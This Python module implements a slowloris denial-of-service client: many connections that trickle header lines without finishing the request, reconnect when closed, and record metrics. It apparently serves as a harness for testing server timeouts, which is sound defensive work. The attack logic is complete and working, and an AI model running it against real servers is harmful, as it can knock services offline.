"""A slowloris client: connections that send a request line, then one header line every few
seconds, and never finish their request. Closed by the server, a connection comes back after
`reconnect_s` (as an attacker's would) until the attack's time is up, or until it is stopped."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import time


@dataclasses.dataclass(frozen=True)
class Attack:
    host: str
    port: int
    connections: int = 130
    every_s: float = 3.0  # one header line per connection this often
    duration_s: float = 20.0  # at most: `trickle(stop=...)` may end it sooner
    reconnect_s: float = 0.5
    request_line: bytes = b"GET /healthz HTTP/1.1\r\n"


@dataclasses.dataclass
class Trickled:
    connects: int = 0
    connect_errors: int = 0
    closed_by_server: int = 0
    open_at_end: int = 0  # still open when the attack ended: closed by the client, not read
    answered: int = 0  # bytes of an answer came back: the server took a partial request
    lines_sent: int = 0
    open_now: int = 0
    peak_open: int = 0
    lifetimes: list[float] = dataclasses.field(default_factory=list)  # connect to server close


async def _one(attack: Attack, out: Trickled, until: float, stop: asyncio.Event) -> None:
    loop = asyncio.get_running_loop()
    on = lambda: loop.time() < until and not stop.is_set()  # noqa: E731
    while on():
        try:
            reader, writer = await asyncio.open_connection(attack.host, attack.port)
        except OSError:
            out.connect_errors += 1
            await asyncio.sleep(attack.reconnect_s)
            continue
        out.connects += 1
        out.open_now += 1
        out.peak_open = max(out.peak_open, out.open_now)
        start = loop.time()
        try:
            writer.write(attack.request_line)
            n = 0
            while on():
                try:
                    data = await asyncio.wait_for(reader.read(1), attack.every_s)
                except TimeoutError:
                    n += 1
                    writer.write(b"X-Trickle-%d: %d\r\n" % (n, n))
                    await writer.drain()
                    out.lines_sent += 1
                    continue
                if data:
                    out.answered += 1
                raise ConnectionResetError  # closed (or answered): the server ended it
            out.open_at_end += 1
        except OSError:
            out.closed_by_server += 1
            out.lifetimes.append(loop.time() - start)
            await asyncio.sleep(attack.reconnect_s)
        finally:
            out.open_now -= 1
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()


async def trickle(
    attack: Attack, out: Trickled | None = None, stop: asyncio.Event | None = None
) -> Trickled:
    """Run the attack for `attack.duration_s`, or until `stop` is set (then within
    `attack.every_s`); `out` fills in as it goes (read it meanwhile)."""
    out = out if out is not None else Trickled()
    stop = stop if stop is not None else asyncio.Event()
    until = asyncio.get_running_loop().time() + attack.duration_s
    await asyncio.gather(*(_one(attack, out, until, stop) for _ in range(attack.connections)))
    return out


async def stalled(host: str, port: int, request: bytes = b"GET / HTTP/1.1\r\n") -> Stalled:
    """One connection that sent `request` (by default an unfinished one) and waits."""
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(request)
    await writer.drain()
    return Stalled(reader, writer, time.monotonic())


@dataclasses.dataclass
class Stalled:
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    opened: float

    async def closed_within(self, seconds: float) -> bool:
        """True when the server closes the connection within `seconds` (bytes are ignored)."""
        try:
            async with asyncio.timeout(seconds):
                while await self.reader.read(65536):
                    pass
        except TimeoutError:
            return False
        except OSError:
            pass
        return True

    def close(self) -> None:
        self.writer.close()
